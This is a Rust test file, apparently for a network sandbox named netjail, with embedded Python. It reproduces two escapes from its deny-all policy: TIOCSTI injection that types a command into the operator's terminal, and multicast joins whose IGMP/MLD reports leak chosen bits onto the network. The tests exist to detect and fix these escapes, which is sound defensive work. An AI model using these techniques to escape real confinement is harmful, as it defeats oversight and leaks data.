//! Red team, second round: attacks that got out of a confinement on main.
//!
//! Each test runs its attack unconfined first (the canary must be reached, so the attack
//! itself works) and then confined under the policy that should refuse it. Each one FAILS
//! while the attack still gets out: the assertion is that the confined run reaches nothing.

use std::time::Duration;

use netjail_integration_tests::{netjail_bin, run, Canary, Outcome};

use crate::{have_setpriv, need_python, need_root, NOBODY};

const WAIT: Duration = Duration::from_secs(5);

// ---- rt2_tiocsti: typing into the operator's terminal -----------------------------------------

/// The confined program: checks that its own connect to the canary is refused (so it is
/// confined), then pushes a command line into its controlling terminal with `TIOCSTI`.
const TIOCSTI_VICTIM: &str = r#"
import fcntl, json, socket, sys, termios
port = int(sys.argv[1])
try:
    socket.create_connection(("127.0.0.1", port), timeout=2).close()
    direct = "ok"
except OSError as e:
    direct = e.errno
line = "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", %d)).send(b\"typed\")'\n" % port
pushed = 0
for ch in line:
    try:
        fcntl.ioctl(0, termios.TIOCSTI, ch.encode())
        pushed += 1
    except OSError:
        break
print(json.dumps({"direct": direct, "pushed": pushed, "len": len(line)}), file=sys.stderr, flush=True)
"#;

/// A stand-in for an operator's interactive shell: a pseudo-terminal that is the controlling
/// terminal of `sh`, which runs the (confined or not) victim and then reads and runs the next
/// line typed at it, as a shell prompt does once the program ends.
const TIOCSTI_DRIVER: &str = r#"
import os, pty, subprocess, sys, threading, fcntl, termios
victim, port, interp, prefix = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
master, slave = pty.openpty()
def ctty():
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in prefix + [interp, "-c", victim, port])
script = quoted + '; read -r line; eval "$line"'
p = subprocess.Popen(["sh", "-c", script], stdin=slave, stdout=slave, stderr=subprocess.PIPE, preexec_fn=ctty)
os.close(slave)
def drain():
    try:
        while os.read(master, 4096):
            pass
    except OSError:
        pass
threading.Thread(target=drain, daemon=True).start()
try:
    rc = p.wait(timeout=20)
except subprocess.TimeoutExpired:
    p.kill(); rc = "timeout"
sys.stderr.write(p.stderr.read().decode(errors="replace"))
print(rc)
"#;

/// A python3 that `nobody` may run: the system's where there is one (a pyenv interpreter
/// under `/root` is closed to other users).
fn nobody_python(py: &str) -> String {
    let system = std::path::Path::new("/usr/bin/python3");
    if system.is_file() {
        return system.to_string_lossy().into_owned();
    }
    py.to_owned()
}

fn tiocsti_run(py: &str, port: &str, prefix: &[&str]) -> Outcome {
    let mut cmd = std::process::Command::new(py);
    cmd.args([
        "-c",
        TIOCSTI_DRIVER,
        TIOCSTI_VICTIM,
        port,
        &nobody_python(py),
    ])
    .args(prefix);
    run(&mut cmd, Duration::from_secs(40))
}

/// Escape: under `deny-all` (and `loopback-only`, `disablenetwork`, every profile without
/// `ioctl = "safe-list"`) a confined program started from an interactive terminal pushes a
/// command line into that terminal with `TIOCSTI`; the operator's shell runs it once the
/// program ends, outside every confinement, and it reaches the canary. `netjail run` keeps the
/// caller's session and controlling terminal (no `setsid`), and `ioctl = "any"` is the default.
#[test]
fn rt2_tiocsti_deny_all_types_into_the_operators_shell() {
    let test = "rt2_tiocsti_deny_all_types_into_the_operators_shell";
    if !need_root(test) || !have_setpriv(test) {
        return;
    }
    let Some(py) = need_python(test) else {
        return;
    };
    let canary = Canary::tcp4();
    let port = canary.port_str();

    let out = tiocsti_run(&py, &port, &[]);
    assert!(
        canary.wait_count(1, WAIT) >= 1,
        "unconfined, the typed line must reach the canary: {}",
        out.describe()
    );

    let netjail = netjail_bin();
    let netjail = netjail.to_str().expect("utf-8 path");
    let before = canary.count();
    let nobody = format!("--reuid={NOBODY}");
    let nogroup = format!("--regid={NOBODY}");
    let prefix = [
        "setpriv",
        nobody.as_str(),
        nogroup.as_str(),
        "--clear-groups",
        "--",
        netjail,
        "run",
        "--policy",
        "deny-all",
        "--",
    ];
    let out = tiocsti_run(&py, &port, &prefix);
    let err = &out.stderr;
    assert!(
        err.contains("\"direct\": 1"),
        "the victim must be confined (its own connect refused): {}",
        out.describe()
    );
    assert_eq!(
        canary.settled_count(),
        before,
        "a deny-all sandbox typed a command into its terminal that reached the canary: {}",
        out.describe()
    );
}

// ---- rt2_multicast_join: group reports on the wire under deny-all ------------------------------

/// In a network namespace of the test's making: a veth pair `rt2a`/`rt2b`, a packet socket on
/// `rt2b` that records the IGMP and MLD reports it sees, and the joiner (run as the arguments
/// say, with `rt2a`'s index appended). Prints the joiner's answers and whether the chosen
/// groups were on the wire.
const PY_IGMP_WATCH: &str = r#"
import json, socket, subprocess, sys, threading, time
ifa = socket.if_nametoindex("rt2a")
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
s.bind(("rt2b", 0))
s.settimeout(0.2)
seen = {"igmp": False, "mld": False}
stop = []
def watch():
    while not stop:
        try:
            d = s.recv(4096)
        except socket.timeout:
            continue
        if d[12:14] == b"\x08\x00" and d[23] == 2 and socket.inet_aton("239.83.69.67") in d:
            seen["igmp"] = True
        if d[12:14] == b"\x86\xdd" and socket.inet_pton(socket.AF_INET6, "ff0e::5345:4352:4554") in d:
            seen["mld"] = True
t = threading.Thread(target=watch)
t.start()
done = subprocess.run(sys.argv[1:] + [str(ifa)], capture_output=True, text=True, timeout=20)
end = time.time() + 4
while time.time() < end and not (seen["igmp"] and seen["mld"]):
    time.sleep(0.1)
stop.append(1)
t.join()
out = json.loads(done.stdout.strip().splitlines()[-1]) if done.stdout.strip() else {"stderr": done.stderr}
out.update(seen)
print(json.dumps(out))
"#;

/// The joiner: joins 239.83.69.67 ("SEC") and ff0e::5345:4352:4554 ("SECRET") on the given
/// interface, and stays a moment so that the kernel sends its reports.
const PY_IGMP_JOIN: &str = r#"
import errno, json, socket, struct, sys, time
ifi = int(sys.argv[1])
out = {}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton("239.83.69.67") + socket.inet_aton("0.0.0.0") + struct.pack("i", ifi))
    out["v4"] = "ok"
except OSError as e:
    out["v4"] = errno.errorcode[e.errno]
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                  socket.inet_pton(socket.AF_INET6, "ff0e::5345:4352:4554") + struct.pack("I", ifi))
    out["v6"] = "ok"
except OSError as e:
    out["v6"] = errno.errorcode[e.errno]
try:
    socket.create_connection(("127.0.0.1", 9), timeout=1).close()
    out["direct"] = "ok"
except OSError as e:
    out["direct"] = errno.errorcode.get(e.errno, str(e.errno))
time.sleep(2)
print(json.dumps(out), flush=True)
"#;

/// Escape: under `deny-all` (also `loopback-only` and `jail`, which allow UDP sockets) a
/// program joins multicast groups with `IP_ADD_MEMBERSHIP` / `IPV6_JOIN_GROUP` (and
/// `MCAST_JOIN_GROUP`, `IP_ADD_SOURCE_MEMBERSHIP`, `IP_MSFILTER`...), on an interface it picks
/// by index, and the kernel sends IGMP and MLD reports naming those groups on that interface:
/// 28 bits per IPv4 group, 112 per IPv6 group (and source lists besides), to the network, with
/// no connect or send for the broker to decide. The joins are setsockopt calls the filter
/// lets through.
#[test]
fn rt2_multicast_join_reports_leave_under_deny_all() {
    let test = "rt2_multicast_join_reports_leave_under_deny_all";
    if !need_root(test) || !have_setpriv(test) {
        return;
    }
    let Some(py) = need_python(test) else {
        return;
    };
    let setup = "ip link set lo up && ip link add rt2a type veth peer name rt2b \
                 && ip addr add 10.99.0.1/24 dev rt2a && ip link set rt2a up \
                 && ip link set rt2b up && sleep 1 && exec \"$@\"";
    let in_netns = |joiner: &[&str]| {
        let mut args = vec!["unshare", "-n", "sh", "-c", setup, "sh"];
        args.extend_from_slice(&[&py, "-c", PY_IGMP_WATCH]);
        args.extend_from_slice(joiner);
        let out = netjail_integration_tests::unconfined(&args);
        assert_eq!(out.code(), Some(0), "{}", out.describe());
        out.json().clone()
    };
    let sys_py = nobody_python(&py);
    let native = in_netns(&[&sys_py, "-c", PY_IGMP_JOIN]);
    assert_eq!(native["v4"], "ok", "{native}");
    assert!(
        native["igmp"] == true && native["mld"] == true,
        "unconfined, the reports are on the wire: {native}"
    );

    let netjail = netjail_bin();
    let netjail = netjail.to_str().expect("utf-8 path");
    let nobody = format!("--reuid={NOBODY}");
    let nogroup = format!("--regid={NOBODY}");
    let confined = in_netns(&[
        "setpriv",
        &nobody,
        &nogroup,
        "--clear-groups",
        "--",
        netjail,
        "run",
        "--policy",
        "deny-all",
        "--",
        &sys_py,
        "-c",
        PY_IGMP_JOIN,
    ]);
    assert_eq!(
        confined["direct"], "EPERM",
        "the joiner is confined: {confined}"
    );
    assert!(
        confined["igmp"] == false && confined["mld"] == false,
        "a deny-all sandbox put group reports of its choosing on the wire: {confined}"
    );
}
